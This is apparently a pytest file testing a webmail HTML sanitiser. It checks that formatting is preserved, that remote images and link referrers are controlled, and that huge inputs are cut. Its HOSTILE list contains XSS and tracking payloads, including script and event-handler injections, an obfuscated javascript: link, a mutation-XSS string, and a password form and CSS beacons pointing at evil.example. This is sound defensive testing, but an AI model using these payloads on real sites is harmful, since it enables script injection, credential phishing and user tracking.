from time import process_time

import pytest

from apps.mail import html
from apps.mail.plain import from_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java&#10;script:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example/a.png)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<img src='https://evil.example/count.gif'>",
    "<img srcset='https://evil.example/count.gif'>",
    "<table background='https://evil.example/count.gif'><tr><td>x</td></tr></table>",
    "<video src='https://evil.example/x' poster='https://evil.example/y'></video>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='//evil.example/count.gif'>",
    "<a href='/sign-out/script:'>x</a>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_clean_leaves_nothing_that_runs_sends_or_covers(text):
    cleaned = html.clean(f"{text}<b>rest</b>", image_url=lambda cid: None, show_remote=False)

    words = "script:|<script|<img src=x|<svg|onload|evil.example|<form|<iframe|<style|position|<meta|<base|svg+xml"
    assert [word for word in words.split("|") if word in cleaned.lower()] == []


def test_clean_keeps_what_a_letter_needs():
    paragraph = "<p style='color:red;position:fixed'>Kính gửi <b>đồng chí</b></p>"
    text = f"{paragraph}<table><tr><td colspan='2'>1</td></tr></table>"

    cleaned = html.clean(text, image_url=lambda cid: None, show_remote=False)

    assert cleaned == (
        '<p style="color:red">Kính gửi <b>đồng chí</b></p>'
        '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
    )


def test_clean_shows_pictures_of_the_message_and_on_wish_those_of_others():
    text = "<img src='cid:logo@x'><img src='https://news.example/a.png'>"

    shown = [
        html.clean(text, image_url=lambda cid: f"http://here/{cid}", show_remote=wish)
        for wish in (False, True)
    ]

    assert shown == [
        '<img src="http://here/logo@x"><img>',
        '<img src="http://here/logo@x"><img src="https://news.example/a.png">',
    ]


def test_links_tell_the_other_server_nothing():
    cleaned = html.clean("<a href='https://a.example'>x</a>", image_url=lambda cid: None, show_remote=False)

    assert cleaned == '<a href="https://a.example" rel="noopener noreferrer nofollow">x</a>'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<img src='https://a.example/x'>", True),
        ("<IMG alt=x SRC=//a.example/x>", True),
        ("<img src='cid:a'>", False),
    ],
)
def test_has_remote_images(text, expected):
    assert html.has_remote_images(text) is expected


@pytest.mark.parametrize("mark", ["<ul><li>", "&"])
def test_html_that_takes_the_parser_minutes_is_cut(mark):
    text = f"<p>Họp</p>{mark * 400_000}"[:2_000_000]
    before = process_time()

    clean = html.clean(text, image_url=lambda cid: None, show_remote=False)

    assert process_time() - before < 10  # uncut: 40 s for the quicker of these, ten minutes for the slower
    assert clean.startswith("<p>Họp</p>")


def test_html_is_cut_wherever_it_is_parsed(monkeypatch):
    monkeypatch.setattr(html, "MARKS_PARSED", 3)
    text = "<p>Họp</p><p>Chiều</p><p>Tối</p>"

    clean = html.clean(text, image_url=lambda cid: None, show_remote=False)

    kept = "<p>Họp</p><p>Chiều</p>"
    assert (clean, html.clean_written(text), from_html(text)) == (kept, kept, "Họp\n\nChiều")


def test_html_of_an_ordinary_size_is_not_cut():
    text = "<table>" + "<tr><td>1&nbsp;000</td></tr>" * 5_000 + "</table>"

    assert html.cut(text) == text
